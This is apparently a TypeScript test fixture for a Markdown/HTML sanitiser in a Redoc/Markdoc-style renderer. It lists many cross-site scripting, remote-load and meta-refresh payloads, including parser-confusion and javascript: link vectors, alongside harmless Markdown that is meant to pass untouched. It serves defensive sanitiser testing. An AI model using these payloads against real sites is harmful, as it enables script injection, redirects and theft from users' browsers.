/** Texts that try to run a script, to load something or to lead the reader away when they are shown. */

/** The script of each payload. Without quotes and `=`, it is also a value of an attribute without quotes. */
const RUN = 'alert(1)';

const ENTITIES = [...RUN].map((character) => `&#${character.charCodeAt(0)};`).join('');

/** Elements that run, load or redirect by themselves. */
const ELEMENTS = (url: string): string[] => [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${url}/s.js></SCRIPT>`,
  `<script type="module">${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${ENTITIES}&lt;/script&gt;"></iframe>`,
  `<IFRAME SRC="javascript:${RUN}"></IFRAME>`,
  `<iframe src="${url}/frame"></iframe>`,
  `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  `<frameset><frame src="javascript:${RUN}"></frameset>`,
  `<meta http-equiv="refresh" content="0;url=${url}/meta">`,
  `<META HTTP-EQUIV=refresh CONTENT=0;url=${url}/meta2>`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  `<base href="${url}/">`,
  `<base href="javascript:${RUN}//">`,
  `<link rel="stylesheet" href="${url}/l.css">`,
  `<link rel="prefetch" href="${url}/prefetch"><link rel="dns-prefetch" href="//x.invalid"><link rel="preconnect" href="${url}">`,
  `<link rel="icon" href="${url}/icon.svg">`,
  `<style>@import '${url}/i.css'; * { background: url(${url}/b.png) }</style>`,
  `<style><img src="</style><img src=x onerror=${RUN}>"></style>`,
  `<object data="${url}/o.html"></object>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${url}/e.svg">`,
  `<embed src="javascript:${RUN}">`,
  `<applet code="${url}/a.class"></applet>`,
  `<form action="${url}/form"><input autofocus onfocus=${RUN}><button>go</button></form>`,
  `<form id=f action="javascript:${RUN}"></form><button form=f autofocus>go</button>`,
  `<isindex action="javascript:${RUN}" type=submit>`,
  `<video autoplay src="${url}/v.mp4" poster="${url}/p.png" onerror=${RUN}></video>`,
  `<audio src="${url}/a.mp3" autoplay onloadstart=${RUN}></audio>`,
  `<video><source src="${url}/s.mp4" onerror="${RUN}"><track src="${url}/t.vtt" default></video>`,
  `<input type=image src="${url}/i.png" onerror=${RUN}>`,
  `<table background="${url}/t.png"><tr><td background="${url}/d.png">x</td></tr></table>`,
  `<portal src="${url}/portal"></portal>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode="open"><img src=x onerror=${RUN}></template>`,
  `<dialog open onclose=${RUN}><form method=dialog></form></dialog>`,
  `<custom-element onclick=${RUN}></custom-element>`,
];

/** Handlers of events, on elements that are harmless by themselves. */
const HANDLERS = (url: string): string[] => [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${ENTITIES}">`,
  `<img src="x" ONERROR='${RUN}'/>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x:x onerror\n=\n"${RUN}">`,
  `<img src="${url}/i.png" srcset="${url}/2.png 2x">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<b onmouseover=${RUN} style="position:fixed;inset:0">x</b>`,
  `<p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
  `<a href="#" autofocus onfocus="${RUN}" tabindex=1>x</a>`,
  `<div style="background:url(${url}/s.png);behavior:url(${url}/x.htc);width:expression(${RUN})">x</div>`,
  `<b {...} dangerouslySetInnerHTML="{__html: '<img src=x onerror=${RUN}>'}">x</b>`,
];

/** Foreign elements, whose content browsers and sanitisers parse in different ways. */
const FOREIGN = (url: string): string[] => [
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${url}/s.js"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img onerror="${RUN}" src&gt;</listing>`,
];

/** HTML that is not closed, or that is in a place where two parsers disagree. */
const UNCLOSED = (url: string): string[] => [
  `<img src=x onerror=${RUN} `,
  `<iframe srcdoc="<script>${RUN}</script>"`,
  `<div title="\n\ntext <b a='"><meta http-equiv=refresh content="0;url=${url}/split">'>x</b>`,
  `<div\n\nx="><iframe src=${url}/split2></iframe>">`,
  `<!--><meta http-equiv=refresh content="0;url=${url}/comment">-->`,
  `<!---><img src=x onerror=${RUN}>-->`,
  `<!-- --!><iframe src="${url}/comment2"></iframe>-->`,
  `<!-- <!-- --><meta http-equiv=refresh content="0;url=${url}/comment3"> -->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]><meta http-equiv=refresh content="0;url=${url}/cdata">`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${RUN}>">]><b>x</b>`,
  `<?xml version="1.0"?><?php <img src=x onerror=${RUN}> ?><meta http-equiv=refresh content="0;url=${url}/pi">`,
  `</title></script></style></textarea><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'"--></style></script><svg onload=${RUN}>`,
  `<textarea><img src=x onerror=${RUN}></textarea><title><meta http-equiv=refresh content="0;url=${url}/rcdata"></title>`,
  `<b><b><b></i></b><meta http-equiv=refresh content="0;url=${url}/nested">`,
  `\`<b\`><iframe src="${url}/tick"></iframe>\``,
  `    <meta http-equiv=refresh content="0;url=${url}/indented">`,
  `> <iframe src="${url}/quote"></iframe>\n> <meta http-equiv=refresh content="0;url=${url}/quote2">`,
  `- x\n\n  <iframe src="${url}/list"></iframe>`,
  `| a | b |\n| --- | --- |\n| <iframe src="${url}/cell"></iframe> | \`x | <meta http-equiv=refresh content="0;url=${url}/cell2"> |`,
  `# Heading <iframe src="${url}/heading"></iframe>\n\nUnderlined <meta http-equiv=refresh content="0;url=${url}/heading2">\n===`,
  `\\<iframe src="${url}/escape"></iframe> \\\\<iframe src="${url}/escape2"></iframe>`,
  `\`\`\`\n</code></pre><img src=x onerror=${RUN}>`,
  `~~~ <img src=x onerror=${RUN}>\n~~~\n<iframe src="${url}/fence"></iframe>`,
];

/** Links that run a script. */
const LINKS = (url: string): string[] => [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java&Tab;script:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](<java\tscript:${RUN}>)`,
  `[x](vbscript:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x][y]\n\n[y]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `![x](javascript:${RUN})`,
  `![x](${url}/image.png)`,
  `[![x](data:image/svg+xml,<svg/onload=${RUN}>)](javascript:${RUN})`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\nscript:${RUN}">x</a>`,
  `<a href="&#1;javascript:${RUN}">x</a>`,
  `<a href=" &#x6A;avascript&colon;${RUN}" target=_self>x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="blob:${url}/x">x</a>`,
  `<area href="javascript:${RUN}"><map name=m><area href="javascript:${RUN}"></map>`,
  `<a href="https://x.invalid/" ping="${url}/ping">x</a>`,
];

/** Tags of Markdoc, with which Redoc makes elements. */
const TAGS = (url: string): string[] => [
  `{% html name="iframe" attrs={srcdoc: "<script>${RUN}</script>"} /%}`,
  `{% html name="meta" attrs={httpEquiv: "refresh", content: "0;url=${url}/tag"} /%}`,
  `{% html name="div" attrs={dangerouslySetInnerHTML: {__html: "<img src=x onerror=${RUN}>"}} /%}`,
  `text {% html name="iframe" attrs={src: "${url}/inline"} /%} text`,
  `\`\`\`js\n{% html name="iframe" attrs={src: "${url}/in-fence"} /%}\n\`\`\``,
  `\`\`\`js {% process=true %}\n{% html name="iframe" attrs={src: "${url}/in-fence2"} /%}\n\`\`\``,
  `# Heading {% onclick="${RUN}" %}\n\n{% partial file="x" /%}{% if $x %}{% else /%}<meta http-equiv=refresh content="0;url=${url}/if">{% /if %}`,
  `{% table %}\n- x {% colspan=2 %}\n---\n- <iframe src="${url}/table"></iframe>\n{% /table %}`,
  `{% schemaDefinition schemaRef="#/x" htmlWrap="<iframe src=${url}/wrap></iframe>" /%}`,
  `" /%}{% html name="meta" attrs={httpEquiv: "refresh", content: "0;url=${url}/name"} /%}`,
];

/** Returns all payloads; `url` is a server that must never be asked. */
export function listPayloads(url: string): string[] {
  return [ELEMENTS, HANDLERS, FOREIGN, UNCLOSED, LINKS, TAGS].flatMap((list) => list(url));
}

/** Markdown that stays exactly as it is. */
export const HARMLESS: readonly string[] = [
  'a < b, c > d, a<b and 1 <2 && 3> 2',
  'x <- y, <3, <>, < b>, <1>',
  '`<T>`, ``Map<`K`, V>`` and `<iframe srcdoc="x">`',
  '```html\n<iframe srcdoc="<script>x</script>"></iframe>\n<meta http-equiv="refresh" content="0">\n```',
  '~~~\n<script>alert(1)</script>\n~~~',
  '- list\n\n  ```ts\n  const x: Array<T> = [];\n  ```',
  '<https://x.test/a?b=c&d=e> and <someone@x.test>',
  '[x](https://x.test "title"), [y](#/schemas/pet), [z](mailto:a@b.test), [r](../other.md), [p](//x.test)',
  '[x][y] and [y]\n\n[y]: https://x.test\n[z]: <./a b> "t"',
  '![x](https://x.test/x.png) ![y](data:image/png;base64,AAAA) ![z](./z.svg)',
  '| a | b |\n| --- | :-: |\n| `x | y` | **z** |\n| <b>x</b> | a<br>b |',
  '# Heading\n\n## Other\n\n> quote\n\n1. one\n2. two\n\n---\n\n*a* **b** _c_ __d__ ~~e~~',
  'a<br>b<br/>c<br />d<hr>',
  '<b>x</b> <i>x</i> <em>x</em> <strong>x</strong> <code>x</code> <kbd>x</kbd> <sub>x</sub> <sup>x</sup> <u>x</u>',
  '<details>\n<summary>More</summary>\n\nText with **Markdown**.\n\n</details>',
  '<details open><summary>More</summary>Text.</details>',
  '<table>\n<thead><tr><th scope="col">a</th></tr></thead>\n<tbody><tr><td colspan="2" align="right">b</td></tr></tbody>\n</table>',
  '<p align="center"><img src="data:image/gif;base64,R0lGOD" alt="x" width="20" height=20></p>',
  '<a href="https://x.test/" target="_blank" rel="noopener">x</a> <a href="#/x">y</a> <a href="mailto:a@b.test">z</a>',
  '<a href="HTTPS://x.test/?a=1&amp;b=2" title="x">x</a>',
  '<span style="color:red">x</span> <div style="text-align:center">y</div>',
  '<ul><li>a<li>b</ul><ol start=3><li value=4>c</li></ol>',
  '<dl><dt>a</dt><dd>b</dd></dl> <blockquote>c</blockquote> <pre>d</pre>',
  '<!-- a comment --> text <!-- and another -->',
  'Unclosed <b>bold',
  '&lt;script&gt; &amp; &copy; &#60;',
  '\\<b> \\[x] \\`',
  '{a: 1} {{ x }} { % x % } 100% {x}',
  '`{% if x %}`',
  'Line one\\\nline two  \nline three',
  '    indented `<x>`',
  '',
  '   ',
];
